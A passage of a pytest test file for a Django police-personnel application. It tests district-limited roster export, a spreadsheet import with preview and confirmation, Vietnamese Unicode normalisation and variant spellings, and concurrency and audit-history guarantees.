        query["language"] = str(Language.objects.get(code=query["language"]).pk)

    response = admin_client.get(reverse("personnel:officer_export"), query)

    assert response.status_code == 200
    assert set(exported(response)) == {roster[key].police_number for key in expected}
    # The list shows the same officers.
    page = admin_client.get(reverse("personnel:officer_list"), query)
    assert {o.police_number for o in page.context["object_list"]} == {roster[key].police_number for key in expected}


@pytest.mark.django_db
def test_the_lists_export_link_carries_its_filters(roster, admin_client):
    page = admin_client.get(reverse("personnel:officer_list"), {"district": str(DAK_GLEI), "page": "1"})

    assert f'href="{reverse("personnel:officer_export")}?district={DAK_GLEI}"' in page.content.decode()


@pytest.mark.django_db
def test_export_is_limited_to_the_users_area(roster, client_as):
    client = client_as("district_clerk")

    response = client.get(reverse("personnel:officer_export"))

    assert response.status_code == 200
    rows = exported(response)
    assert set(rows) == {roster["glei_young"].police_number, roster["glei_senior"].police_number}
    assert {row["Mã huyện quản lý"] for row in rows.values()} == {DAK_GLEI}
    # Its own district as a filter works; another district gives nothing from it.
    response = client.get(reverse("personnel:officer_export"), {"district": str(DAK_GLEI)})
    assert set(exported(response)) == set(rows)
    response = client.get(reverse("personnel:officer_export"), {"district": str(NGOC_HOI)})
    assert set(exported(response)) <= set(rows)
    assert roster["ngoc_hoi"].police_number not in exported(response)


@pytest.mark.django_db
def test_a_provincial_clerk_exports_the_whole_province(roster, client_as):
    response = client_as("provincial_clerk").get(reverse("personnel:officer_export"))

    assert set(exported(response)) == {o.police_number for o in roster.values()}


@pytest.mark.django_db
def test_a_user_without_a_role_may_not_export(roster, client_as):
    assert client_as("no_role").get(reverse("personnel:officer_export")).status_code == 403


# --- a file changes only what it says; NFC and the usual variants (issue 12) ---------------------------


def nfd(text: str) -> str:
    return unicodedata.normalize("NFD", text)


@pytest.mark.django_db
def test_blank_cells_leave_a_known_officers_particulars_and_languages_as_they_are(roster, admin_client):
    officer = roster["ngoc_hoi"]
    blank = dict.fromkeys(IMPORT_COLUMNS[1:])
    before = db_state()

    response = preview(admin_client, xlsx(IMPORT_COLUMNS, [officer_row(officer, **blank)[:-1]]))

    assert changes_by_row(response) == {2: {}}
    assert statuses(response) == {2: "unchanged"}
    confirm(admin_client, response.context["token"])
    assert db_state() == before


@pytest.mark.django_db
def test_the_clear_marker_clears_the_phone_and_the_languages(roster, admin_client):
    officer = roster["ngoc_hoi"]
    content = xlsx(["Số hiệu", "Điện thoại", "Ngôn ngữ"], [[officer.police_number, "(xoá)", "(XÓA)"]])

    response = preview(admin_client, content)

    assert response.status_code == 200, errors_by_row(response)
    kinds = {c.column: c.kind for c in response.context["report"].rows[0].shown_changes}
    assert kinds == {"Điện thoại": "cleared", "Ngôn ngữ": "cleared"}
    confirm(admin_client, response.context["token"])
    officer.refresh_from_db()
    assert (officer.phone, list(officer.languages.all())) == ("", [])


@pytest.mark.django_db
def test_the_clear_marker_on_a_required_column_is_an_error_of_its_row(roster, admin_client):
    officer = roster["ngoc_hoi"]
    before = db_state()

    response = preview(admin_client, xlsx(["Số hiệu", "Họ và tên"], [[officer.police_number, "(xóa)"]]))

    assert response.status_code == 400
    assert errors_by_row(response) == {
        2: [("Họ và tên", "(xóa)", "“Họ và tên” is required: it cannot be cleared with (xóa).")]
    }
    assert db_state() == before


@pytest.mark.django_db
def test_a_decomposed_name_is_no_change_and_a_new_one_is_stored_composed(roster, admin_client):
    """macOS and some copy-pastes write "Y Liêm" decomposed (NFD): the same name, stored NFC."""
    known = roster["glei_young"]
    Officer.objects.filter(pk=known.pk).update(full_name="Y Liêm")
    rows = [
        [known.police_number, nfd("Y Liêm"), nfd("Tiếng Việt, Xơ Đăng")],
        ["208-001", nfd("Y Liêm"), None],
    ]
    new = new_row("208-001", **{"Họ và tên": nfd("Y Liêm"), "Đơn vị công tác": nfd("Công an huyện Đắk Glei")})

    response = preview(admin_client, xlsx(["Số hiệu", "Họ và tên", "Ngôn ngữ"], rows[:1]))
    assert statuses(response) == {2: "unchanged"}
    response = preview(admin_client, xlsx(IMPORT_COLUMNS, [new[:-1]]))
    assert statuses(response) == {2: "new"}
    confirm(admin_client, response.context["token"])

    created = Officer.objects.get(police_number="208-001")
    assert created.full_name == "Y Liêm" == unicodedata.normalize("NFC", created.full_name)
    assert created.current_unit == "Công an huyện Đắk Glei"
    assert Officer.objects.filter(full_name="Y Liêm").count() == 2


@pytest.mark.django_db
@pytest.mark.parametrize("cell", ["Tiếng Xơ Đăng", "Xơ-đăng", "xơ đăng", "XO DANG", "tieng xo dang"])
def test_a_language_is_accepted_with_or_without_tieng_hyphen_case_or_accents(roster, admin_client, cell):
    officer = roster["glei_senior"]  # speaks Tiếng Việt only

    response = preview(admin_client, xlsx(["Số hiệu", "Ngôn ngữ"], [[officer.police_number, f"{cell}, Việt"]]))

    assert response.status_code == 200, errors_by_row(response)
    confirm(admin_client, response.context["token"])
    assert {language.name for language in officer.languages.all()} == {"Xơ Đăng", "Tiếng Việt"}


@pytest.mark.django_db
@pytest.mark.parametrize(
    ("column", "cell", "attribute", "expected"),
    [
        ("Dân tộc", "dân tộc Xê Đăng", "ethnicity", Ethnicity.XO_DANG),
        ("Dân tộc", "Ba-na", "ethnicity", Ethnicity.BA_NA),
        ("Dân tộc", "GIA RAI", "ethnicity", Ethnicity.GIA_RAI),
        ("Cấp bậc", "Thượng uý", "rank", Rank.THUONG_UY),
        ("Cấp bậc", "dai uy", "rank", Rank.DAI_UY),
        ("Cấp bậc", "Captain", "rank", Rank.DAI_UY),
        ("Giới tính", "nữ", "gender", Gender.FEMALE),
    ],
)
def test_ethnicity_rank_and_gender_accept_their_usual_variants(roster, admin_client, column, cell, attribute, expected):
    officer = roster["province"]

    response = preview(admin_client, xlsx(["Số hiệu", column], [[officer.police_number, cell]]))

    assert response.status_code == 200, errors_by_row(response)
    confirm(admin_client, response.context["token"])
    officer.refresh_from_db()
    assert getattr(officer, attribute) == expected


@pytest.mark.django_db
def test_capital_and_spaced_headers_are_the_known_columns(roster, admin_client):
    officer = roster["province"]

    response = preview(admin_client, xlsx(["SỐ HIỆU", " Điện thoại "], [[officer.police_number, "0905000111"]]))

    assert response.status_code == 200, response.context["form"].errors
    assert changes_by_row(response) == {2: {"Điện thoại": ("", "0905000111")}}


@pytest.mark.django_db
def test_each_preview_row_names_its_officer(roster, admin_client):
    officer = roster["ngoc_hoi"]
    content = xlsx(
        ["Số hiệu", "Họ và tên", "Cấp bậc"], [[officer.police_number, None, "Tướng"], ["209-001", "Y Hà", None]]
    )

    response = preview(admin_client, content)

    labels = {row.number: row.label for row in response.context["report"].rows}
    assert labels[2].startswith(officer.police_number)
    assert labels[3] == "209-001 · Y Hà"


@pytest.mark.django_db
def test_the_template_explains_blank_cells_the_clear_marker_and_each_column(roster, client_as):
    workbook = load_workbook(io.BytesIO(client_as("administrator").get(reverse("personnel:officer_template")).content))

    assert workbook.sheetnames == ["Cán bộ", "Hướng dẫn"]
    rows = list(workbook["Hướng dẫn"].iter_rows(values_only=True))
    text = "\n".join(str(value) for row in rows for value in row if value)
    assert "ô trống giữ nguyên" in text and "(xóa)" in text
    by_column = {row[0]: row[1:] for row in rows if row and row[0] in IMPORT_COLUMNS}
    assert set(by_column) == set(IMPORT_COLUMNS)
    assert by_column["Số hiệu"][0] == "Bắt buộc: xác định bản ghi"
    assert by_column["Họ và tên"][0] == "Bắt buộc với bản ghi mới; không thể xóa"
    assert by_column["Điện thoại"][0] == "Không bắt buộc"
    assert "Tiếng" in by_column["Ngôn ngữ"][1]


# --- the confirmation writes what the preview validated, in bulk, with history (issue 14) ----------------------


@pytest.fixture
def no_second_import(monkeypatch):
    """From here on, importing a file row by row (django-import-export) fails the test."""
    from import_export.resources import Resource

    def refuse(self, *args, **kwargs):
        raise AssertionError("the file was imported again")

    return lambda: monkeypatch.setattr(Resource, "import_data", refuse)


@pytest.mark.django_db
def test_the_confirmation_writes_new_and_changed_officers_in_bulk_with_history_for_every_one(
    roster, admin_client, users, no_second_import
):
    changed = [roster["glei_young"], roster["dak_to"]]
    unchanged = roster["ngoc_hoi"]
    rows = [new_row(f"208-{n:03d}", **{"Họ và tên": nfd(f"Y Liêm {chr(65 + n)}")}) for n in range(5)]
    rows += [
        officer_row(changed[0], **{"Cấp bậc": "Đại úy", "Ngôn ngữ": "Ba Na"}),
        officer_row(changed[1], **{"Đơn vị công tác": "Công an xã Đắk Tô", "Điện thoại": "(xóa)"}),
        officer_row(unchanged),
    ]
    response = preview(admin_client, xlsx(HEADERS, rows))
    assert response.context["report"].totals == {"new": 5, "changed": 2, "unchanged": 1, "error": 0}
    history_before = {officer.pk: officer.history.count() for officer in roster.values()}
    no_second_import()

    response = confirm(admin_client, response.context["token"])

    assert response.status_code == 302
    administrator = users["administrator"]
    created = Officer.objects.filter(police_number__startswith="208-").order_by("police_number")
    assert created.count() == 5
    for n, officer in enumerate(created):
        assert officer.full_name == f"Y Liêm {chr(65 + n)}"  # stored NFC
        assert unicodedata.is_normalized("NFC", officer.full_name)
        assert officer.status == OfficerStatus.CANDIDATE
        assert (officer.search_key, officer.sort_key) != ("", "")
        assert Officer.objects.search("y liem").filter(pk=officer.pk).exists()
        assert set(officer.languages.values_list("name", flat=True)) == {"Xơ Đăng", "Tiếng Việt"}
        [entry] = officer.history.all()
        assert (entry.history_type, entry.history_user, entry.full_name) == ("+", administrator, officer.full_name)
    young, dak_to = (Officer.objects.get(pk=officer.pk) for officer in changed)
    assert (young.rank, set(young.languages.values_list("name", flat=True))) == (Rank.DAI_UY, {"Ba Na"})
    assert (dak_to.current_unit, dak_to.phone) == ("Công an xã Đắk Tô", "")
    for officer in (young, dak_to):
        assert officer.history.count() == history_before[officer.pk] + 1
        latest = officer.history.first()
        assert (latest.history_type, latest.history_user) == ("~", administrator)
    assert {c.field for c in young.history.first().diff_against(young.history.first().prev_record).changes} == {"rank"}
    assert {c.field for c in dak_to.history.first().diff_against(dak_to.history.first().prev_record).changes} == {
        "current_unit", "phone"
    }  # fmt: skip
    assert dak_to.updated_at > roster["dak_to"].updated_at
    assert unchanged.history.count() == history_before[unchanged.pk]
    # The officer's page shows the import in its history, by the administrator.
    [entry, *_older] = admin_client.get(young.get_absolute_url()).context["history"]
    assert (entry.action, entry.user) == ("~", administrator)


@pytest.mark.django_db
def test_an_officer_edited_between_preview_and_confirmation_is_refused_and_nothing_is_written(
    roster, admin_client, users, no_second_import
):
    """A clerk changes the officer's phone on the officer's page after the preview of a file that changes it too:
    the file would now do something else, so nothing of it is written and its new preview is shown."""
    from personnel.services import officer_update

    officer = roster["glei_young"]
    response = preview(
        admin_client, xlsx(HEADERS, [officer_row(officer, **{"Điện thoại": "0987000111"}), new_row("209-001")])
    )
    assert changes_by_row(response)[2] == {"Điện thoại": ("0912345678", "0987000111")}
    officer_update(officer=Officer.objects.get(pk=officer.pk), user=users["provincial_clerk"], phone="0905000222")
    before = db_state()

    response = confirm(admin_client, response.context["token"])

    assert response.status_code == 409
    assert db_state() == before
    assert not Officer.objects.filter(police_number="209-001").exists()
    assert changes_by_row(response)[2] == {"Điện thoại": ("0905000222", "0987000111")}
    no_second_import()
    assert confirm(admin_client, response.context["token"]).status_code == 302
    assert Officer.objects.get(pk=officer.pk).phone == "0987000111"
    assert Officer.objects.filter(police_number="209-001").exists()


@pytest.mark.django_db
def test_a_police_number_registered_between_preview_and_confirmation_is_refused(roster, admin_client):
    response = preview(admin_client, xlsx(HEADERS, [new_row("209-002")]))
    assert statuses(response) == {2: "new"}
    OfficerFactory(police_number="209-002", full_name="Người Khác")
    before = db_state()

    response = confirm(admin_client, response.context["token"])

    assert response.status_code == 409
    assert statuses(response) == {2: "changed"}
    assert db_state() == before


@pytest.mark.django_db
def test_the_same_confirmation_posted_twice_writes_once_and_its_history_once(roster, admin_client):
    officer = roster["glei_senior"]
    response = preview(admin_client, xlsx(HEADERS, [officer_row(officer, **{"Cấp bậc": "Thiếu tá"})]))
    token = response.context["token"]
    history = officer.history.count()

    assert confirm(admin_client, token)["Location"] == reverse("personnel:officer_list")
    again = confirm(admin_client, token)

    assert again["Location"] == reverse("personnel:officer_import")
    assert officer.history.count() == history + 1
    assert Officer.objects.get(pk=officer.pk).rank == Rank.THIEU_TA


@pytest.mark.django_db
def test_a_confirmation_the_day_after_the_preview_previews_again(roster, admin_client, monkeypatch):
    """An officer's age is counted on the day: a plan made yesterday is not written as it stands."""
    import rollout.core.import_jobs as import_jobs

    response = preview(admin_client, xlsx(HEADERS, [new_row("209-003")]))
    token = response.context["token"]
    tomorrow = timezone.localdate() + datetime.timedelta(days=1)
    monkeypatch.setattr(import_jobs, "_today", lambda: tomorrow)
    replanned = []
    original = import_jobs._confirm_again
    monkeypatch.setattr(import_jobs, "_confirm_again", lambda job, view: replanned.append(job) or original(job, view))

    assert confirm(admin_client, token).status_code == 302
    assert len(replanned) == 1
    assert Officer.objects.filter(police_number="209-003").exists()


@pytest.mark.skipif(
    connection.vendor != "postgresql", reason="two real transactions at once need PostgreSQL's row locks"
)
@pytest.mark.django_db(transaction=True)
def test_two_confirmations_of_one_preview_at_once_write_it_once(roster, users):
    """The same confirm button clicked twice, the two requests at the same moment (two real transactions): the
    preview's job is locked, so one writes and the other finds it confirmed."""
    import threading

    from django.db import connections
    from django.test import Client

    officer = roster["glei_senior"]
    first = in_english(Client())
    first.force_login(users["administrator"])
    token = preview(first, xlsx(HEADERS, [officer_row(officer, **{"Cấp bậc": "Thiếu tá"}), new_row("209-010")]))
    token = token.context["token"]
    second = in_english(Client())
    second.cookies = first.cookies  # the same browser session
    history = officer.history.count()
    barrier, locations = threading.Barrier(2), []

    def click(client):
        try:
            barrier.wait(timeout=10)
            locations.append(confirm(client, token)["Location"])
        finally:
            connections.close_all()

    threads = [threading.Thread(target=click, args=(client,)) for client in (first, second)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join(timeout=60)

    assert sorted(locations) == sorted([reverse("personnel:officer_list"), reverse("personnel:officer_import")])
    assert officer.history.count() == history + 1
    assert Officer.objects.filter(police_number="209-010").count() == 1
    assert Officer.history.filter(police_number="209-010").count() == 1


@pytest.mark.django_db
def test_a_roster_of_more_than_50_rows_is_checked_in_the_background_then_written_with_history(
    roster, admin_client, users, django_capture_on_commit_callbacks, no_second_import
):
    from rollout.core.import_jobs import ImportJob

    rows = [new_row(f"210-{n:03d}", **{"Họ và tên": f"A Thị {chr(65 + n % 26)}{n}"}) for n in range(51)]
    with django_capture_on_commit_callbacks(execute=True):  # the worker's job, in-process here
        response = preview(admin_client, xlsx(HEADERS, rows))
    assert response.status_code == 302 and "?job=" in response["Location"]
    token = response["Location"].split("?job=", 1)[1]
    assert ImportJob.objects.get(token=token).rows_total == 51

    page = admin_client.get(response["Location"])

    assert page.context["report"].totals == {"new": 51, "changed": 0, "unchanged": 0, "error": 0}
    no_second_import()
    assert confirm(admin_client, page.context["token"]).status_code == 302
    created = Officer.objects.filter(police_number__startswith="210-")
    assert created.count() == 51
    assert Officer.history.filter(police_number__startswith="210-", history_type="+").count() == 51
    assert set(Officer.history.filter(police_number__startswith="210-").values_list("history_user", flat=True)) == {
        users["administrator"].pk
    }
